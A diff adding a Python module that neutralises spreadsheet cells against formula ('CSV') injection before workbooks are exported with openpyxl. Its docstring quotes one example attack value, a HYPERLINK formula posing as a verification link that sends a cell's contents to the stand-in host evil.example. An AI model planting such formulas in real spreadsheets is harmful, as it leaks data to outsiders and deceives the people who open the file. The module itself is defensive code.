@@ -1,0 +1,45 @@
+"""Every spreadsheet the platform writes goes out through ``workbook_bytes``, which neutralises
+every cell first (OWASP, "CSV injection"): a text that starts with ``=``, ``+``, ``-``, ``@``, a
+tab or a carriage return is prefixed with an apostrophe, so a learner registered as
+``=HYPERLINK("http://evil.example/?x="&C2,"点此核验")`` is shown as that text, never run as a
+formula by Excel or WPS. openpyxl itself stores any text beginning with ``=`` as a formula.
+
+Numbers and dates are not text and are left alone (a negative number is a number). Formulas the
+platform means to write would have to be added after neutralising; none is today.
+"""
+
+import io
+
+from openpyxl import Workbook
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value):
+    """The value as a spreadsheet cell may safely hold it (text that would start a formula is
+    prefixed with ``'``); any other value unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def neutralise_row(values) -> list:
+    """A row for a CSV writer or ``worksheet.append``, neutralised."""
+    return [neutralise(value) for value in values]
+
+
+def workbook_neutralise(workbook: Workbook) -> Workbook:
+    """Neutralise every cell of every sheet of ``workbook``, in place."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
+                    cell.value = "'" + cell.value
+    return workbook
+
+
+def workbook_bytes(workbook: Workbook) -> bytes:
+    """The workbook as ``.xlsx`` bytes, every cell neutralised: the one way out for a workbook."""
+    buffer = io.BytesIO()
+    workbook_neutralise(workbook).save(buffer)
+    return buffer.getvalue()
